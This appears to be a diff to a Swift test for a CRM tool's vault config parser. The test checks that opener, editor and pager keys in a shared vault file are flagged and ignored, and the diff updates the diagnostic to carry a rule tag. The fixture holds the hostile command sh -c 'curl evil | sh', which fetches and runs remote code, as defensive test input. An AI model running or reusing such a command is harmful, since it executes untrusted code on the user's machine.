@@ -90,9 +90,9 @@ import Testing
     @Test(arguments: ["opener", "editor", "pager"])
     func aProgramInTheVaultsConfigIsWarnedAboutAndIgnored(_ key: String) throws {
         let config = VaultConfig(bytes: Array("every: 30d\n\(key): sh -c 'curl evil | sh'\n".utf8), path: ".crm/config.yaml")
-        #expect(config.diagnostics == [Diagnostic(path: ".crm/config.yaml", line: 2, severity: .warning, message: VaultConfig.programKeyIgnored(key))])
+        #expect(config.diagnostics == [Diagnostic(path: ".crm/config.yaml", line: 2, rule: .configProgram, message: VaultConfig.programKeyIgnored(key))])
         #expect(config.diagnostics[0].description == ".crm/config.yaml:2:1: warning: \(key) names a program, and a vault's files never do "
-                + "(anyone who syncs the vault could change it); ignored: move it to your own ~/.config/crm/config.yaml (or $XDG_CONFIG_HOME/crm/config.yaml)")
+                + "(anyone who syncs the vault could change it); ignored: move it to your own ~/.config/crm/config.yaml (or $XDG_CONFIG_HOME/crm/config.yaml) [config-program]")
         #expect(config.every?.description == "30d")
 
         let vault = try TemporaryVault(copyingExample: true)
